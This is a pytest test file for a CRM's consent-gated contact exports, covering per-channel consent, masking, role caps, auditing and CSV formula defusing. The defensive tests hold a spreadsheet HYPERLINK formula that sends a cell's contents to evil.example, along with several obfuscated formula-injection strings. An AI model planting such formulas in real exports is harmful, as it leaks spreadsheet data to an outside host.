"""Consent per channel and contact exports: opt-in audiences, masking, formula defusing, caps, audit."""

from __future__ import annotations

import csv
import io

import polars as pl
import pytest
from sqlalchemy import select

from crm_core.auth.policy import Role
from crm_core.entities import AuditEvent
from crm_core.protection.formulas import defuse, defuse_text_columns
from crm_core.protection.masking import mask_email
from tests.crm_core.conftest import World

FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def add_contact(world: World, first: str, email: str) -> int:
    response = world.client.post(
        "/contacts",
        json={"first_name": first, "last_name": "Person", "email": email, "phone": "+1 555 0100"},
        headers=world.headers(Role.ADMIN),
    )
    assert response.status_code == 201, response.text
    return int(response.json()["id"])


def set_consent(world: World, contact_id: int, channel: str, status: str, role: Role = Role.ADMIN) -> int:
    response = world.client.put(
        f"/contacts/{contact_id}/consents/{channel}",
        json={"status": status, "source": "web form"},
        headers=world.headers(role),
    )
    return response.status_code


def read_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_consent_is_per_channel_history_and_the_newest_decision_counts(world: World) -> None:
    contact = add_contact(world, "Cora", "cora@example.com")
    assert set_consent(world, contact, "email", "granted") == 200
    assert set_consent(world, contact, "sms", "granted") == 200
    assert set_consent(world, contact, "email", "withdrawn") == 200
    current = world.client.get(f"/contacts/{contact}/consents", headers=world.headers(Role.ADMIN)).json()
    assert {row["channel"]: row["status"] for row in current} == {"email": "withdrawn", "sms": "granted"}
    assert set_consent(world, contact, "carrier-pigeon", "granted") == 422
    own, other = world.contacts[(Role.SALES_REP, "own")], world.contacts[(Role.SALES_REP, "other")]
    assert set_consent(world, own, "email", "granted", Role.SALES_REP) == 200
    assert set_consent(world, other, "email", "granted", Role.SALES_REP) == 404
    assert set_consent(world, own, "email", "granted", Role.MARKETER) == 403


def test_a_marketer_exports_only_opted_in_people_masked_with_formulas_defused(world: World) -> None:
    granted = add_contact(world, FORMULA_NAME, "granted.person@example.com")
    withdrawn = add_contact(world, "Wanda", "withdrawn.person@example.com")
    never = add_contact(world, "Nora", "never.asked@example.com")
    sms_only = add_contact(world, "Sam", "sms.only@example.com")
    set_consent(world, granted, "email", "granted")
    set_consent(world, withdrawn, "email", "granted")
    set_consent(world, withdrawn, "email", "withdrawn")
    set_consent(world, sms_only, "sms", "granted")
    del never

    marketer = world.headers(Role.MARKETER)
    refused = world.client.get("/exports/contacts", headers=marketer)
    assert (refused.status_code, refused.json()["field"]) == (422, "consent")

    response = world.client.get("/exports/contacts", params={"consent": "email"}, headers=marketer)
    assert response.status_code == 200, response.text
    rows = read_csv(response.text)
    assert [int(row["id"]) for row in rows] == [granted]
    assert rows[0]["first_name"] == "'" + FORMULA_NAME, "a formula cell is defused, still readable"
    assert rows[0]["email"] == mask_email("granted.person@example.com")
    assert "granted.person@example.com" not in response.text
    assert response.headers["X-Row-Count"] == "1"

    both = world.client.get("/exports/contacts", params={"consent": ["email", "sms"]}, headers=marketer)
    assert read_csv(both.text) == [], "nobody opted in on both channels"


def test_exports_follow_reach_caps_and_are_audited(world: World) -> None:
    assert world.client.get("/exports/contacts", headers=world.headers(Role.SALES_REP)).status_code == 403
    manager = world.client.get("/exports/contacts", headers=world.headers(Role.SALES_MANAGER))
    team_ids = {int(row["id"]) for row in read_csv(manager.text)}
    assert world.contacts[(Role.SALES_MANAGER, "team")] in team_ids
    assert world.contacts[(Role.SALES_MANAGER, "other")] not in team_ids, "another team's people stay home"

    capped = world.client.get("/exports/contacts", params={"limit": 2}, headers=world.headers(Role.ADMIN))
    assert len(read_csv(capped.text)) == 2 and capped.headers["X-Truncated"] == "true"
    too_many = world.client.get("/exports/contacts", params={"limit": 10**9}, headers=world.headers(Role.ADMIN))
    assert too_many.status_code == 422

    parquet = world.client.get("/exports/contacts", params={"format": "parquet"}, headers=world.headers(Role.ADMIN))
    frame = pl.read_parquet(io.BytesIO(parquet.content))
    assert frame.height == int(parquet.headers["X-Row-Count"]) > 2
    with world.engine.connect() as connection:
        events = connection.execute(
            select(AuditEvent).where(AuditEvent.action == "contact.export").order_by(AuditEvent.id)
        ).all()
    assert [event.details["rows"] for event in events] == [len(team_ids), 2, frame.height]
    assert events[-1].details["format"] == "parquet"


@pytest.mark.parametrize(
    "cell",
    [" =HYPERLINK(1)", "\u00a0=1+1", "\u3000+cmd", "＝SUM(A1)", "\u200b@SUM(1)", "\ufeff-2+3", "  ＋1", "\t=1"],
    ids=[
        "space",
        "nbsp",
        "ideographic space",
        "full-width equals",
        "zero-width space",
        "bom",
        "full-width plus",
        "tab",
    ],
)
def test_formulas_behind_blanks_or_in_full_width_are_defused(cell: str) -> None:
    """The attack: a leading space, a no-break space or a full-width '＝' slipped past."""
    assert defuse(cell) == "'" + cell
    assert defuse_text_columns(pl.DataFrame({"name": [cell]}))["name"].to_list() == ["'" + cell]


@pytest.mark.parametrize("cell", ["Ada", "a=b", " plain words", "50%", "O'Brien", ""])
def test_ordinary_text_is_left_alone(cell: str) -> None:
    assert defuse(cell) == cell
    assert defuse_text_columns(pl.DataFrame({"name": [cell]}))["name"].to_list() == [cell]
